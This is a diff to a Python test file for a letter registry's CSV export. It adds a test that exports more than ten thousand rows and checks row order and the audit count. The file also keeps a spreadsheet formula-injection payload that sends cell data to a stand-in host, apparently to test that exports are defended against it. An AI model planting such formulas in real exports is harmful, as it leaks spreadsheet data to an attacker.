@@ -7,11 +7,13 @@ import csv
 import json
 import re
 import io
+from datetime import timedelta
 from email.message import EmailMessage
 from pathlib import Path
 
 from web_support import Site, site_fixture  # noqa: F401  (the `site` fixture)
 
+from gateway.registry import LetterFilter, Scope
 from gateway.report.spreadsheet import cell
 
 HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?"&A2,"details")'
@@ -106,3 +108,31 @@ def test_the_export_lists_the_letters_in_the_order_the_queue_shows_them(site: Si
         exported = rita.get(link.group(1).replace("&amp;", "&"))
         numbers = [r["number"] for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))]
         assert len(numbers) == len(shown) > 2 and numbers == shown, sort
+
+
+def test_the_queue_export_holds_every_row_however_many(site: Site) -> None:
+    """Past ten thousand letters too: every one of the queue's rows, in its order, none dropped,
+    and the audit row counts them all."""
+    from sqlalchemy import insert
+
+    from gateway.registry.models import Letter
+
+    template = site.registry.letter(site.letters["business"])
+    assert template is not None
+    copied = {c.key: getattr(template, c.key) for c in Letter.__table__.columns if c.key != "id"}
+    many = 10_050
+    with site.registry.write() as conn:
+        conn.execute(insert(Letter), [{**copied, "number": f"2025-{n:06d}", "series": "2025", "seq": n,
+                                       "raw_sha256": f"{n:064x}", "subject": f"Order {n}",
+                                       "received_at": template.received_at - timedelta(minutes=n)}
+                                      for n in range(1, many + 1)])
+    rita = site.sign_in("rita")
+    exported = rita.get("/letters.csv", params={"queue": "all", "sort": "-received"})
+    assert exported.status_code == 200 and exported.content.startswith(b"\xef\xbb\xbf")
+    numbers = [r["number"] for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))]
+    total = site.registry.letters_count(Scope(everything=True), LetterFilter())
+    assert len(numbers) == len(set(numbers)) == total > many
+    assert numbers[-many:] == [f"2025-{n:06d}" for n in range(1, many + 1)]  # the oldest last, in order
+    [audit] = [r for r in site.access.audit(site.people.principal("audrey"), actor="rita")  # type: ignore[arg-type]
+               if r.action == "export"]
+    assert audit.details["rows"] == total
